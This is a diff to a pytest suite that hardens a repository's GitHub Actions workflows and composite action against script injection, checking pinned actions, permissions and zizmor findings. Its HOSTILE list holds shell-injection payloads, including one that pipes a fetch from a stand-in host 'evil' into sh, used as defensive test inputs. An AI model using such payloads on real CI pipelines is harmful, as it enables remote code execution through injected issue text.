@@ -29,6 +29,8 @@ import yaml
 from tests.conftest import ROOT
 
 WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.yml"))
+ACTION = ROOT / "action.yml"
+PINNED = re.compile(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}")
 PIPELINES = sorted((ROOT / ".woodpecker").glob("*.yml"))
 HOSTILE = ["'; curl evil | sh; echo '", "$(id)", "`id`", '"; touch PWNED; echo "', "${IFS}x$(touch PWNED)"]
 EXPRESSION = re.compile(r"\$\{\{.*?\}\}", re.DOTALL)
@@ -44,8 +46,10 @@ def load(path: Path) -> dict[Any, Any]:
 
 
 def steps(path: Path) -> list[tuple[str, dict[str, Any], dict[str, Any]]]:
-    """(job id, job, step) for every step that runs a script."""
+    """(job id, job, step) for every step that runs a script (the action's steps count as one job)."""
     workflow = load(path)
+    if path == ACTION:
+        return [("action", {}, step) for step in workflow["runs"]["steps"] if "run" in step]
     return [(job_id, job, step) for job_id, job in workflow["jobs"].items()
             for step in job.get("steps") or [] if "run" in step]
 
@@ -56,7 +60,7 @@ def test_there_are_workflows_and_pipelines_to_check() -> None:
     assert [p.name for p in PIPELINES] == ["issue-automation.yml", "postmortem.yml"]
 
 
-@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
+@pytest.mark.parametrize("path", [*WORKFLOWS, ACTION], ids=lambda p: p.name)
 def test_no_expression_is_pasted_into_a_run_script(path: Path) -> None:
     for job_id, _, step in steps(path):
         assert not EXPRESSION.search(step["run"]), f"{path.name}: {job_id}: {step.get('name')}: ${{{{ }}}} in run:"
@@ -74,7 +78,8 @@ def test_every_job_has_least_privilege_a_timeout_and_pinned_actions(path: Path) 
         assert 0 < job["timeout-minutes"] <= 30, f"{job_id}: timeout"
         for step in job["steps"]:
             if "uses" in step:
-                assert re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", step["uses"]), step["uses"]
+                # Pinned to a commit, or this repository's own action (./, the self-test).
+                assert PINNED.fullmatch(step["uses"]) or step["uses"] == "./", step["uses"]
                 if step["uses"].startswith("actions/checkout@"):
                     assert step["with"]["persist-credentials"] is False
 
@@ -95,6 +100,20 @@ def test_issue_automation_triggers_concurrency_and_bot_skip() -> None:
     assert jobs["woodpecker"]["permissions"] == {"contents": "read", "issues": "write"}
 
 
+def test_the_actions_own_steps_are_pinned_and_never_turn_the_wrapper_on() -> None:
+    action = load(ACTION)
+    assert action["runs"]["using"] == "composite"
+    for step in action["runs"]["steps"]:
+        if "uses" in step:
+            assert PINNED.fullmatch(step["uses"]), step["uses"]
+            if "setup-terraform" in step["uses"]:
+                assert step["with"]["terraform_wrapper"] is False
+            if "setup-opentofu" in step["uses"]:
+                assert step["with"]["tofu_wrapper"] is False
+        else:
+            assert step["shell"] == "bash"
+
+
 def test_the_only_zizmor_suppression_is_the_reviewed_one() -> None:
     ignores = [(path.name, line.strip()) for path in WORKFLOWS
                for line in path.read_text().splitlines() if "zizmor: ignore" in line]
@@ -107,8 +126,8 @@ def test_zizmor_finds_a_pasted_issue_title(tmp_path: Path) -> None:
     assert zizmor, "zizmor is in the dev extras"
     (tmp_path / ".github" / "workflows").mkdir(parents=True)
     bad = (ROOT / ".github/workflows/sweep.yml").read_text().replace(
-        'run: responder sweep --config "$RESPONDER_CONFIG"',
-        "run: echo '${{ github.event.issue.title }}'")
+        "      - name: Sweep\n",
+        "      - run: echo '${{ github.event.issue.title }}'\n      - name: Sweep\n")
     (tmp_path / ".github/workflows/sweep.yml").write_text(bad.replace("  workflow_dispatch:", "  issues:"))
     result = subprocess.run([zizmor, "--offline", "--min-severity", "medium", str(tmp_path / ".github")],
                             capture_output=True, text=True, timeout=60, check=False)
@@ -142,7 +161,7 @@ def run_script(script: str, env: dict[str, str], cwd: Path, shell: tuple[str, ..
 
 
 @pytest.mark.parametrize("payload", HOSTILE)
-@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
+@pytest.mark.parametrize("path", [p for p in [*WORKFLOWS, ACTION] if steps(p)], ids=lambda p: p.name)
 def test_a_hostile_issue_runs_nothing_in_any_workflow_step(tmp_path: Path, path: Path, payload: str) -> None:
     bin_dir, log = tmp_path / "bin", tmp_path / "calls.jsonl"
     recorders(bin_dir, log)
@@ -159,9 +178,11 @@ def test_a_hostile_issue_runs_nothing_in_any_workflow_step(tmp_path: Path, path:
                "GITHUB_REPOSITORY": "acme-homelab/infra",
                **hostile_env(workflow.get("env") or {}, payload), **hostile_env(job.get("env") or {}, payload),
                **hostile_env(step.get("env") or {}, payload)}
+        env.setdefault("RUNNER_TEMP", str(tmp_path / "runner-temp"))
         # GitHub runs `run:` with bash -e {0} (plus pipefail when shell: bash is given).
         result = run_script(step["run"], env, work, ("bash", "--noprofile", "--norc", "-eo", "pipefail", "-c"))
-        assert result.returncode == 0, f"{path.name}: {step.get('name')}: {result.stderr}"
+        if path != ACTION:  # the action's steps may refuse hostile inputs (a bad venv path); they must not run them
+            assert result.returncode == 0, f"{path.name}: {step.get('name')}: {result.stderr}"
         ran += 1
     assert ran > 0
     assert not list(tmp_path.rglob("PWNED")), "an injected command ran"
